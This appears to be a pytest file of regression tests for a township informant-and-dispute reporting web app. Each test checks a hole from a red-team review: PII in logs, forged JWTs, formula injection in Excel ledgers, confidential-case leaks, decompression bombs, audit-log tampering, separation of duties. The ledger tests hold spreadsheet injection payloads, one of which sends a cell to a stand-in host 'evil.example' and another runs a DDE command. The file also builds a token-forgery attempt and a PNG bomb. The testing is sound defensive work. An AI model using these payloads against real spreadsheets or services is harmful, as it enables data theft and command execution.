"""Issue 15: what a red-team review got through, one test per hole (each failed before)."""

from __future__ import annotations

import logging

import jwt
import pytest
from sqlalchemy import delete, func, select
from sqlalchemy.exc import IntegrityError

from server import auth, create_app
from server.config import ConfigError
from server.db import db
from server.models import Case, User
from tests.factories import UserFactory
from tests.test_villager import form, post

SECRET_NAME, SECRET_PHONE = "赵秘密", "13912345678"


# --- 1. identity in the error log --------------------------------------------------------


def test_a_failing_statement_carries_none_of_its_values(world, caplog):
    UserFactory(username="twin", display_name="张三")
    db.session.flush()

    def twin():
        UserFactory(username="twin", display_name=SECRET_NAME, phone=SECRET_PHONE)
        db.session.flush()

    with caplog.at_level(logging.DEBUG), pytest.raises(IntegrityError) as failed:
        twin()
    db.session.rollback()
    assert SECRET_NAME not in str(failed.value)
    assert SECRET_PHONE not in str(failed.value)
    assert SECRET_PHONE not in caplog.text


def test_a_place_too_long_is_refused_by_the_core_with_the_form_kept(client, world):
    page = post(
        client,
        world,
        form(world, place_text="村" * 201, anonymous="no", name=SECRET_NAME, phone=SECRET_PHONE),
    )
    assert page.status_code == 422
    body = page.get_data(as_text=True)
    assert "地点最多200字" in body
    assert "村东头两家为排水沟吵架" in body  # what was typed is still there
    assert db.session.scalar(select(func.count(Case.id))) == 0


def test_a_villager_report_that_fails_inside_keeps_what_was_typed(
    client, world, monkeypatch, caplog
):
    from server.cases import operations

    def broken(*args, **kwargs):
        raise RuntimeError("the disk controller hiccuped")

    monkeypatch.setattr(operations, "submit_villager_report", broken)
    with caplog.at_level(logging.DEBUG):
        page = post(
            client, world, form(world, anonymous="no", name=SECRET_NAME, phone=SECRET_PHONE)
        )
    assert page.status_code == 500
    body = page.get_data(as_text=True)
    assert "您填写的内容还在" in body
    assert "村东头两家为排水沟吵架" in body
    assert SECRET_NAME in body  # back in the villager's own form, nowhere else
    assert SECRET_NAME not in caplog.text
    assert SECRET_PHONE not in caplog.text


# --- 3. forged tokens -------------------------------------------------------------------


@pytest.mark.parametrize("env", ["prod", "prd", "Production", ""])
def test_an_environment_not_named_exactly_does_not_start(env, tmp_path, monkeypatch):
    monkeypatch.setenv("INSTANCE_PATH", str(tmp_path))
    with pytest.raises(ConfigError, match="ENV must be one of"):
        create_app({"ENV": env, "DATABASE_URL": f"sqlite:///{tmp_path / 'x.sqlite3'}"})


def test_a_token_cannot_be_made_from_what_an_attacker_can_know(client, world, login, app):
    """With the signing key in hand (a published default once started 'prod'), the old
    token's password stamp was a microsecond time: found in 13 tries. Now a token must
    carry a digest of a random secret of the user's."""
    center = world.center
    key = auth._signing_key()
    stamp = int(center.password_changed_at.timestamp() * 1_000_000)
    for claims in (
        {"sub": str(center.id), "pwd": stamp, "typ": "api", "exp": 4102444800},
        {"sub": str(center.id), "sec": "0" * 32, "typ": "api", "exp": 4102444800},
    ):
        forged = jwt.encode(claims, key, algorithm="HS256")
        answer = client.get("/api/v1/auth/me", headers={"Authorization": f"Bearer {forged}"})
        assert answer.status_code == 401, claims


def test_a_password_change_takes_every_token_back(client, world, login):
    headers = login(world.worker1)
    assert client.get("/api/v1/auth/me", headers=headers).status_code == 200
    before = world.worker1.token_secret
    auth.set_password(world.worker1, "Another@Pass2026", actor=world.admin)
    db.session.flush()
    assert world.worker1.token_secret != before
    refused = client.get("/api/v1/auth/me", headers=headers)
    assert refused.status_code == 401
    assert refused.json["code"] == "token_revoked"
    assert db.session.get(User, world.worker1.id).token_secret


# --- 4. formulas in the ledgers ------------------------------------------------------------

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
]


def test_the_characters_a_sheet_cannot_hold_are_openpyxl_s_own():
    """server/figures/cells.py writes the pattern out (so as not to load openpyxl before a
    worker's first spreadsheet): it must stay the library's."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    from server.figures import cells

    assert cells.ILLEGAL_CHARACTERS_RE.pattern == ILLEGAL_CHARACTERS_RE.pattern
    assert cells.inert("张\x07三\x1f") == "张三"


def test_what_people_typed_is_text_in_every_ledger(world):
    import io
    from datetime import datetime
    from zoneinfo import ZoneInfo

    from openpyxl import load_workbook

    from server.cases.operations import Party
    from server.figures import ledgers, statistics
    from server.infra import clock
    from tests.helpers import new_report

    at = datetime(2026, 6, 10, 10, tzinfo=ZoneInfo("Asia/Shanghai"))
    with clock.frozen_at(at):
        for attack in ATTACKS:
            new_report(
                world,
                "D02",
                description=attack,
                place_text=attack.strip()[:200],
                parties=[Party(name=attack.strip()[:64], side="applicant")],
            )
    for kind in ("disputes", "cases"):
        out = io.BytesIO()
        with clock.frozen_at(at.replace(month=7)):
            assert ledgers.write(kind, statistics.month(2026, 6), out) == len(ATTACKS)
        book = load_workbook(io.BytesIO(out.getvalue()))  # not read-only: cell types
        cells = [c for row in book.active.iter_rows(min_row=2) for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], kind
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert not [
            t for t in texts if t.startswith(("=", "+", "-", "@", "\t")) and not t[:1].isdigit()
        ], kind
        if kind == "disputes":  # it carries the parties and the description
            for attack in ATTACKS:
                assert any(attack.strip() in t for t in texts), (kind, attack)


# --- 6. confidential cases leak by their text ---------------------------------------------


def test_a_confidential_case_s_messages_name_neither_its_kind_nor_its_content(world):
    from server.cases import access, workflow
    from server.models import Notification
    from tests.helpers import case_in

    for user in (world.center, world.police_handler, world.worker1, world.justice_handler):
        user.phone = "13800000000"
        user.wechat_openid = f"openid-{user.username}"
    db.session.flush()
    case = case_in("follow_up", world, code="S04")  # 涉贩毒: urgent and confidential
    reported = case.description  # what the urgent alert was made of
    # The follow-up is not the village's to make.
    assert "record_visit" not in {t.action for t in workflow.allowed_actions(case, world.worker1)}
    workflow.apply(case, "record_visit", actor=world.center, outcome="gone", text="已无异常")
    db.session.flush()
    notes = db.session.scalars(select(Notification).where(Notification.case_id == case.id)).all()
    assert notes
    outside = [
        n
        for n in notes
        if n.channel != "inbox" or not access.can_view_case(db.session.get(User, n.user_id), case)
    ]
    assert outside  # SMS and WeChat copies, and the village's workers
    for note in outside:
        assert "涉贩毒" not in note.title + note.body, note.body
        assert reported[:8] not in note.body
    visit_tasks = [n for n in notes if n.kind == "verify"]
    assert visit_tasks
    assert {db.session.get(User, n.user_id).role.value for n in visit_tasks} == {"center"}


# --- 8. memory bombs ----------------------------------------------------------------------


def _flat_png(width, height, mode="RGBA") -> bytes:
    import io

    from PIL import Image

    out = io.BytesIO()
    Image.new(mode, (width, height), (200, 30, 30, 255)[: len(mode)]).save(out, "PNG")
    return out.getvalue()


def test_a_small_file_that_decodes_huge_is_refused_from_its_header(app, monkeypatch):
    from PIL import Image

    from server.cases import media
    from server.infra.errors import PayloadTooLarge

    bomb = _flat_png(7071, 7071)  # inside 50 MP; 200 MB once decoded
    assert len(bomb) < 1_000_000

    def never(self, *args, **kwargs):
        raise AssertionError("decoded a bomb")

    monkeypatch.setattr(Image.Image, "load", never)
    with pytest.raises(PayloadTooLarge):
        media.process_image(
            bomb,
            max_pixels=50_000_000,
            max_side=1920,
            max_decoded=app.config["MEDIA_MAX_DECODED_BYTES"],
        )


def test_a_worker_decodes_only_so_many_images_at_once(monkeypatch):
    from server.cases import media
    from server.infra.errors import ServiceUnavailable

    monkeypatch.setattr(media, "_decoding", None)
    monkeypatch.setattr(media, "DECODE_WAIT_SECONDS", 0.2)
    slot = media._decode_slot(1)
    slot.acquire()  # another upload is being decoded
    try:
        with pytest.raises(ServiceUnavailable) as busy:
            media.process_image(_flat_png(10, 10), max_pixels=100, max_side=1920, slots=1)
        assert busy.value.code == "media_busy"
    finally:
        slot.release()
    assert (
        media.process_image(_flat_png(10, 10), max_pixels=100, max_side=1920, slots=1).width == 10
    )


def test_the_largest_image_taken_costs_about_a_hundred_megabytes(tmp_path):
    """Measured in a fresh interpreter: the peak memory of one upload at the bound (a
    3600x2900 RGBA PNG, 40 MB decoded) beyond what the process held before."""
    import subprocess
    import sys

    (tmp_path / "big.png").write_bytes(_flat_png(3600, 2900))
    script = """
import sys
from pathlib import Path
from server.cases import media
def hwm():
    for line in Path('/proc/self/status').read_text().splitlines():
        if line.startswith('VmHWM:'):
            return int(line.split()[1])
raw = Path(sys.argv[1]).read_bytes()
before = hwm()
media.process_image(raw, max_pixels=50_000_000, max_side=1920, max_decoded=40 * 1024 * 1024)
print(hwm() - before)
"""
    out = subprocess.run(
        [sys.executable, "-c", script, str(tmp_path / "big.png")],
        capture_output=True,
        text=True,
        check=True,
    )
    assert int(out.stdout) < 120 * 1024, f"{int(out.stdout) // 1024} MB"  # 112 MB seen


# --- 9. the audit log can be rewritten ----------------------------------------------------


def test_the_audit_log_is_a_chain_that_shows_a_row_changed_or_taken_out(world, client, login, app):
    from sqlalchemy import update

    from server.models import AuditEntry
    from server.trust import audit
    from tests.helpers import case_in

    case = case_in("dispatched", world)
    for user in (world.worker1, world.justice_handler, world.center):
        client.get(f"/api/v1/cases/{case.code}", headers=login(user))
    client.post("/api/v1/auth/logout", headers=login(world.worker1))
    actions = db.session.scalars(select(AuditEntry.action).order_by(AuditEntry.id)).all()
    assert actions.count("case.viewed") == 3  # every role's view, not only the center's
    assert "auth.logout" in actions
    assert audit.verify().broken_at is None
    rows = db.session.scalars(select(AuditEntry).order_by(AuditEntry.id)).all()
    assert len(rows) == audit.verify().checked > 5
    middle = rows[len(rows) // 2]
    db.session.execute(update(AuditEntry).where(AuditEntry.id == middle.id).values(ip="10.0.0.1"))
    assert audit.verify().broken_at == middle.id
    db.session.execute(update(AuditEntry).where(AuditEntry.id == middle.id).values(ip=middle.ip))
    db.session.expire_all()
    assert audit.verify().broken_at is None
    db.session.execute(delete(AuditEntry).where(AuditEntry.id == middle.id))
    assert audit.verify().broken_at == rows[len(rows) // 2 + 1].id
    with pytest.raises(ValueError, match="至少保存"):
        audit.purge(90)


def test_the_cli_proves_the_chain(runner, world):
    from server.models import AuditEntry
    from server.trust import audit

    for n in range(3):
        audit.record("test.event", actor=world.admin, object_type="test", object_id=n)
    db.session.flush()
    good = runner.invoke(args=["audit", "verify"])
    assert good.exit_code == 0, good.output
    assert "校验通过：3 条" in good.output
    second = db.session.scalars(select(AuditEntry).order_by(AuditEntry.id)).all()[1]
    second.detail = {"forged": True}
    db.session.flush()
    bad = runner.invoke(args=["audit", "verify"])
    assert bad.exit_code == 1
    assert f"第 {second.id} 条" in bad.output


# --- 10. the low ones ---------------------------------------------------------------------


def test_the_demo_town_is_not_loaded_in_production(runner, app):
    saved = app.config["ENV"]
    app.config["ENV"] = "production"
    try:
        result = runner.invoke(args=["seed-demo"])
    finally:
        app.config["ENV"] = saved
    assert result.exit_code != 0
    assert "生产环境不能载入演示数据" in result.output
    assert db.session.scalar(select(func.count(User.id))) == 0


@pytest.mark.parametrize(
    "password", ["Admin@123", "Demo@2026", "P@ssw0rd2024!", "1qaz@WSX", "Qwer@1234"]
)
def test_common_passwords_are_refused(password):
    from server.infra.errors import ValidationFailed
    from server.trust import passwords

    with pytest.raises(ValidationFailed) as refused:
        passwords.check_policy(password)
    assert refused.value.code in {"common_password", "weak_password"}


def test_one_address_spraying_many_usernames_is_slowed(client, world):
    from server.infra import clock

    for n in range(10):  # ten usernames, one wrong password each: no username locks
        answer = client.post(
            "/api/v1/auth/login", json={"username": f"nobody{n}", "password": "Wrong@2026x"}
        )
        assert answer.status_code == 401
    slowed = client.post(
        "/api/v1/auth/login", json={"username": "t_center", "password": "Wrong@2026x"}
    )
    assert slowed.status_code == 429
    assert slowed.json["code"] == "login_throttled"
    from datetime import timedelta

    from server.trust import throttle

    assert throttle.purge(clock.now()) == 0  # still counting
    assert (
        throttle.purge(clock.now() + timedelta(days=2)) == 21
    )  # ten names, ten name-and-address pairs, one address


def test_api_answers_are_never_stored_by_a_cache(client, world, login):
    answer = client.get("/api/v1/auth/me", headers=login(world.center))
    assert answer.headers["Cache-Control"] == "no-store"


def test_the_files_a_villager_s_page_loads_are_logged_without_the_address():
    from server.trust.accesslog import PRIVATE_PATH

    for path in ("/static/villager/villager.css", "/favicon.ico", "/q/abc", "/t/XYZ"):
        assert PRIVATE_PATH.match(path), path
    assert not PRIVATE_PATH.match("/admin/login")


# --- 7 and the whole promise: a named informant, searched for on every surface ------------


def test_a_named_informant_is_found_only_where_the_center_reads_it(
    client, world, login, signin, caplog
):
    """A confidential report with a name and phone, driven through every action; then the
    name and phone are looked for in every API answer to every role, every admin page
    and export, the ledgers, the notifications, the stored idempotency answers, the log,
    and every text column of every table (where only ciphertext may hold them)."""
    import io
    import uuid
    from datetime import timedelta

    from sqlalchemy import String, Text

    from server.figures import ledgers, statistics
    from server.infra import clock
    from server.models import Case, Notification
    from tests.test_villager import form, post

    name, phone = "钱秘密", "13711112222"
    with caplog.at_level(logging.DEBUG):
        page = post(
            client,
            world,
            form(
                world,
                kind="S04",
                anonymous="no",
                name=name,
                phone=phone,
                description="村西废品站有人贩毒。",
            ),
        )
        assert page.status_code == 200
        case = db.session.scalar(select(Case).order_by(Case.id.desc()))
        code = case.code
        center, police = login(world.center), login(world.police_handler)

        def act(headers, action, **fields):
            version = client.get(f"/api/v1/cases/{code}", headers=headers).json["version"]
            answer = client.post(
                f"/api/v1/cases/{code}/actions",
                headers=headers | {"Idempotency-Key": str(uuid.uuid4())},
                json={"action": action, "version": version, **fields},
            )
            assert answer.status_code == 200, answer.json
            return answer

        act(center, "accept")
        act(center, "dispatch", lead_department=world.police.id)
        act(police, "sign_for")
        act(police, "resolve", result_code="hazard_removed", result_text="已抓获。")
        act(center, "verify")
        act(center, "record_visit", outcome="gone", text="已无异常。")
        shown_to_center = act(center, "close", closing_reason="resolved")
        assert shown_to_center.json["reporter"]["name"] == name  # the center reads it

        seen = []
        for user in (
            world.police_handler,
            world.worker1,
            world.leader,
            world.admin,
            world.justice_handler,
        ):
            headers = login(user)
            seen.append(client.get(f"/api/v1/cases/{code}", headers=headers))
            seen.append(client.get("/api/v1/cases", headers=headers))
            seen.append(client.get("/api/v1/todo", headers=headers))
            seen.append(client.get("/api/v1/inbox", headers=headers))
        for user in (world.police_handler, world.leader):
            signin(user)
            for url in (
                f"/admin/cases/{code}",
                f"/admin/cases/{code}/print",
                "/admin/",
                "/admin/inbox",
                "/admin/dashboard",
                "/admin/report",
            ):
                seen.append(client.get(url))
        # JSON escapes Chinese (\\u94b1...): looked for both as read and as escaped.
        texts = [r.get_data(as_text=True) for r in seen]
        with clock.frozen_at(clock.now() + timedelta(days=40)):
            for kind in ledgers.KINDS:
                out = io.BytesIO()
                ledgers.write(
                    kind, statistics.month(*clock.local(case.created_at).timetuple()[:2]), out
                )
                from openpyxl import load_workbook

                book = load_workbook(io.BytesIO(out.getvalue()), read_only=True)
                texts += [str(v) for row in book.active.iter_rows(values_only=True) for v in row]
                book.close()
        texts += [n.title + n.body for n in db.session.scalars(select(Notification))]
    import json

    forms = (name, json.dumps(name)[1:-1], phone)
    for text in texts:
        for secret in forms:
            assert secret not in text
    for secret in forms:
        assert secret not in caplog.text
    db.session.flush()
    for table in db.metadata.sorted_tables:
        columns = [c for c in table.columns if isinstance(c.type, String | Text)]
        if not columns:
            continue
        for row in db.session.execute(select(*columns)):
            for value in row:
                for secret in forms:
                    assert secret not in str(value), (table.name, value)


# --- 2. separation of duties (三员分立) -----------------------------------------------------


def test_each_of_the_three_duties_does_its_own_work_and_reads_no_case(client, world, signin, login):
    from tests.helpers import case_in

    case = case_in("submitted", world)
    db.session.flush()
    pages = {
        "/admin/users": world.security,
        "/admin/audit": world.auditor,
        "/admin/departments": world.admin,
        "/admin/categories": world.admin,
    }
    for user in (world.admin, world.security, world.auditor):
        signin(user)
        for url, owner in pages.items():
            status = client.get(url).status_code
            assert (status == 200) == (user is owner), (user.username, url, status)
        assert client.get(f"/admin/cases/{case.code}").status_code == 403, user.username
        api = login(user)
        assert client.get(f"/api/v1/cases/{case.code}", headers=api).status_code == 404
        assert client.get("/api/v1/cases", headers=api).json["items"] == []
    signin(world.center)
    assert client.get("/admin/audit").status_code == 403  # the center no longer reads it


def test_a_privileged_account_waits_for_a_second_security_admin(client, world, signin):
    from server.models import Approval, AuditEntry
    from tests.factories import UserFactory

    second = UserFactory(username="t_security2", role="security_admin")
    db.session.flush()
    token = signin(world.security)
    client.post(
        "/admin/users",
        data={
            "csrf_token": token,
            "username": "newcenter",
            "display_name": "新值班员",
            "role": "center",
            "password": "Center@Duty77x",
        },
    )
    made = db.session.scalar(select(User).where(User.username == "newcenter"))
    assert made.active is False  # cannot read an informant yet
    (asked,) = db.session.scalars(select(Approval)).all()
    refused = client.post(
        f"/admin/approvals/{asked.id}/approve", data={"csrf_token": token}, follow_redirects=True
    )
    assert "不能审批自己提出的事项" in refused.get_data(as_text=True)
    assert db.session.get(User, made.id).active is False
    token = signin(second)
    assert "newcenter" in client.get("/admin/approvals").get_data(as_text=True)
    client.post(f"/admin/approvals/{asked.id}/approve", data={"csrf_token": token})
    assert db.session.get(User, made.id).active is True
    # Resetting a center account's password waits too; applied, it must be changed.
    client.post(
        f"/admin/users/{world.center.id}/password",
        data={"csrf_token": token, "password": "Reset@Center88"},
    )
    assert db.session.get(User, world.center.id).must_change_password is False
    reset = db.session.scalar(select(Approval).where(Approval.kind == "reset_password"))
    assert "password_hash" in reset.payload
    token = signin(world.security)
    client.post(f"/admin/approvals/{reset.id}/approve", data={"csrf_token": token})
    center = db.session.get(User, world.center.id)
    assert center.must_change_password is True
    assert "password_hash" not in db.session.get(Approval, reset.id).payload
    actions = db.session.scalars(select(AuditEntry.action)).all()
    assert actions.count("approval.asked") == 2
    assert actions.count("approval.approved") == 2


def test_clearing_confidential_waits_for_a_second_system_admin(client, world, signin):
    from server.models import Approval, Category
    from tests.factories import UserFactory

    other_admin = UserFactory(username="t_admin2", role="admin")
    db.session.flush()
    drugs = db.session.scalar(select(Category).where(Category.code == "S04"))
    assert drugs.confidential
    token = signin(world.admin)
    form = {
        "csrf_token": token,
        "code": "S04",
        "name": drugs.name,
        "default_risk_level": drugs.default_risk_level.value,
        "active": "yes",
        "urgent": "yes",
        **{
            field: value
            for s, n, unit in (
                ("accept", "30", "m"),
                ("dispatch", "1", "h"),
                ("sign_for", "1", "h"),
                ("handle", "5", "wd"),
                ("verify", "2", "wd"),
                ("follow_up", "7", "d"),
            )
            for field, value in ((f"due_{s}", n), (f"due_{s}_unit", unit))
        },
    }  # no "confidential": cleared
    page = client.post("/admin/categories", data=form, follow_redirects=True)
    assert "取消保密须由另一位系统管理员审批" in page.get_data(as_text=True)
    assert db.session.get(Category, drugs.id).confidential  # still
    asked = db.session.scalar(select(Approval).where(Approval.kind == "clear_confidential"))
    token = signin(other_admin)
    client.post(f"/admin/approvals/{asked.id}/approve", data={"csrf_token": token})
    assert not db.session.get(Category, drugs.id).confidential


def test_a_reset_password_is_changed_before_anything_else(client, world, signin):
    token = signin(world.security)
    client.post(
        f"/admin/users/{world.justice_handler.id}/password",
        data={"csrf_token": token, "password": "Given@Justice55"},
    )
    # The admin sends them to change it first.
    token = signin(world.justice_handler, password="Given@Justice55")
    assert client.get("/admin/").headers["Location"].endswith("/admin/password")
    changed = client.post(
        "/admin/password",
        data={
            "csrf_token": token,
            "current": "Given@Justice55",
            "new_password": "Mine@Justice66",
            "confirm": "Mine@Justice66",
        },
    )
    assert changed.status_code == 302
    assert client.get("/admin/").status_code == 200
    # The API refuses a token until it is changed, and takes the change.
    token = signin(world.security)
    client.post(
        f"/admin/users/{world.worker1.id}/password",
        data={"csrf_token": token, "password": "Given@Worker55"},
    )
    refused = client.post(
        "/api/v1/auth/login", json={"username": "t_grid1", "password": "Given@Worker55"}
    )
    assert refused.status_code == 403
    assert refused.json["code"] == "password_change_required"
    chosen = client.post(
        "/api/v1/auth/password",
        json={"username": "t_grid1", "password": "Given@Worker55", "new_password": "Mine@Worker66"},
    )
    assert chosen.status_code == 200
    assert (
        client.get(
            "/api/v1/auth/me", headers={"Authorization": f"Bearer {chosen.json['token']}"}
        ).status_code
        == 200
    )


def test_the_dashboard_names_no_household_by_village_and_confidential_kind(client, world, signin):
    from server.infra import clock
    from tests.helpers import new_report

    new_report(world, "S04")  # one drug report in 东村, this month
    db.session.flush()
    month = f"kind=month&value={clock.local(clock.now()):%Y-%m}"
    signin(world.leader)
    refused = client.get(f"/admin/dashboard?{month}&village={world.v1.id}&category=S04")
    assert refused.status_code == 422
    assert "保密类别的数字不按村查看" in refused.get_data(as_text=True)
    by_village = client.get(f"/admin/dashboard?{month}&category=S04").get_data(as_text=True)
    assert "东村</td><td><a" not in by_village  # the village bar of 1 is left out
    in_village = client.get(f"/admin/dashboard?{month}&village={world.v1.id}").get_data(
        as_text=True
    )
    assert "涉贩毒</td>" not in in_village
    signin(world.center)  # the center sees every cell
    both = f"/admin/dashboard?{month}&village={world.v1.id}&category=S04"
    assert client.get(both).status_code == 200
    assert "东村</td><td><a" in client.get(f"/admin/dashboard?{month}&category=S04").get_data(
        as_text=True
    )
    assert "涉贩毒</td>" in client.get(f"/admin/dashboard?{month}&village={world.v1.id}").get_data(
        as_text=True
    )


@pytest.mark.parametrize("reader", ["leader", "admin"])
def test_no_page_of_figures_names_a_household_by_village_and_confidential_kind(
    client, world, signin, reader
):
    """The report, its Excel copy and the dashboard's map and table of villages leave out
    what the dashboard's bars leave out: one village's small count of a confidential
    kind (an independent review found the report printing "东村 1" under 涉贩毒)."""
    import io
    import re

    import openpyxl

    from server.cases import workflow
    from server.infra import clock
    from tests.helpers import new_report

    drugs = new_report(world, "S04")  # one drug report in 东村, this month
    workflow.apply(drugs, "accept", actor=world.center)
    workflow.apply(drugs, "dispatch", actor=world.center, lead_department=world.committee1.id)
    db.session.flush()
    month = f"kind=month&value={clock.local(clock.now()):%Y-%m}"
    signin(getattr(world, reader))
    for page in ("/admin/report", "/admin/report.xlsx"):
        refused = client.get(f"{page}?{month}&village={world.v1.id}&category=S04")
        assert refused.status_code == 422, page
    report = client.get(f"/admin/report?{month}&category=S04").get_data(as_text=True)
    assert "<td>东村</td><td>1</td>" not in report
    assert "不单独列出" in report
    book = openpyxl.load_workbook(
        io.BytesIO(client.get(f"/admin/report.xlsx?{month}&category=S04").data)
    )
    assert list(book["按村"].values) == [("村", "件次")]
    in_village = client.get(f"/admin/report?{month}&village={world.v1.id}").get_data(as_text=True)
    assert "涉贩毒" not in in_village
    dashboard = client.get(f"/admin/dashboard?{month}&category=S04").get_data(as_text=True)
    assert "东村：未结1件" not in dashboard  # the map's tile shows no number
    assert re.search(r'class="village withheld"[^>]*title="东村：少于5件', dashboard)
    # Every tile under the threshold reads alike: one withheld beside tiles of 0 names it.
    assert re.search(r'class="village withheld"[^>]*title="西村：少于5件', dashboard)
    assert "未结0件" not in dashboard
    assert "<td>东村</td><td>1</td>" not in dashboard  # nor the villages' table
    # nor the departments' (a village committee serves one village)
    assert f"<td>{world.committee1.name}</td><td>1</td>" not in dashboard

    signin(world.center)  # the center reads every cell
    report = client.get(f"/admin/report?{month}&category=S04").get_data(as_text=True)
    assert "<td>东村</td><td>1</td>" in report
    assert "不单独列出" not in report
    dashboard = client.get(f"/admin/dashboard?{month}&category=S04").get_data(as_text=True)
    assert "东村：未结1件" in dashboard
    assert "<td>东村</td><td>1</td>" in dashboard
    assert f">{world.committee1.name}</a></td><td>1</td>" in dashboard


def test_two_people_deciding_one_approval_at_once_cannot_both(fresh_app):
    """An approve and a refuse of the same ask, at once: one decides, the other finds it
    decided (read FOR UPDATE); never an account made active under a 'refused' record."""
    import threading

    from server.infra.errors import NotFound
    from server.models import Approval, AuditEntry
    from server.organisation import accounts
    from server.trust import approvals
    from tests.factories import UserFactory, build_world

    with fresh_app.app_context():
        world = build_world()
        deciders = [UserFactory(username=f"t_security{n}", role="security_admin") for n in (2, 3)]
        accounts.create_user(
            actor=world.security,
            username="newcenter",
            display_name="新值班员",
            role="center",
            password="Center@Duty77x",
        )
        db.session.commit()
        (asked,) = db.session.scalars(select(Approval)).all()
        ids = (asked.id, [d.id for d in deciders])
        db.session.remove()
    outcomes, barrier = [], threading.Barrier(2)

    def decide(decision, decider_id):
        with fresh_app.app_context():
            decider = db.session.get(User, decider_id)
            barrier.wait(timeout=30)
            try:
                decision(ids[0], actor=decider)
                db.session.commit()
                outcomes.append(decision.__name__)
            except NotFound:
                db.session.rollback()
                outcomes.append("found decided")
            finally:
                db.session.remove()

    threads = [
        threading.Thread(target=decide, args=(approvals.approve, ids[1][0])),
        threading.Thread(target=decide, args=(approvals.refuse, ids[1][1])),
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert sorted(outcomes) in (["approve", "found decided"], ["found decided", "refuse"])
    with fresh_app.app_context():
        decided = db.session.scalars(
            select(AuditEntry.action).where(
                AuditEntry.action.in_(["approval.approved", "approval.refused"])
            )
        ).all()
        assert len(decided) == 1
        made = db.session.scalar(select(User).where(User.username == "newcenter"))
        assert made.active is (decided == ["approval.approved"])
        db.session.remove()


def test_a_backlog_of_identities_is_forgotten_a_batch_at_a_time(world):
    """Years of ended cases named at once (an upgrade, a shorter retention) are forgotten
    a batch per sweep, so that no statement carries more ids than a database takes (the
    command line repeats batches until none is left)."""
    from datetime import timedelta

    from server.cases import workflow
    from server.cases.operations import Reporter
    from server.infra import clock
    from server.trust import identity
    from tests.helpers import new_report

    cases = []
    for n in range(5):
        case = new_report(
            world,
            actor=None,
            source="qr",
            reporter=Reporter(anonymous=False, name=f"王{n}", phone="13900000000"),
        )
        workflow.apply(case, "reject", actor=world.center, reason="不属于本镇管辖。")
        cases.append(case)
    db.session.flush()
    with clock.frozen_at(clock.now() + timedelta(days=400)):
        assert identity.purge(30, batch=2) == 2
        assert identity.purge(30, batch=2) == 2
        assert identity.purge(30, batch=2) == 1
        assert identity.purge(30) == 0
    for case in cases:
        db.session.refresh(case)
        assert case.reporter_name is None


def test_the_system_admin_reads_the_figures_with_no_link_to_cases(client, world, signin):
    """The admin sees the town's numbers but no case (README): a number is not a link
    that answers 无权访问. The center's numbers lead to their cases."""
    import re

    from tests.helpers import new_report

    new_report(world, "D02")
    db.session.flush()
    signin(world.admin)
    page = client.get("/admin/dashboard").get_data(as_text=True)
    assert 'id="fig-received"' in page
    case_links = re.findall(r'href="(/admin/(?:counted|\?)[^"]*)"', page)
    assert case_links == []
    for href in re.findall(r'href="(/admin/(?!static/)[^"#]*)"', page):
        assert client.get(href.replace("&amp;", "&")).status_code != 403, href
    signin(world.center)
    page = client.get("/admin/dashboard").get_data(as_text=True)
    assert re.search(r'href="/admin/counted\?event=submit', page)
    assert re.search(r'class="village [a-z]+" href="/admin/\?village=', page)
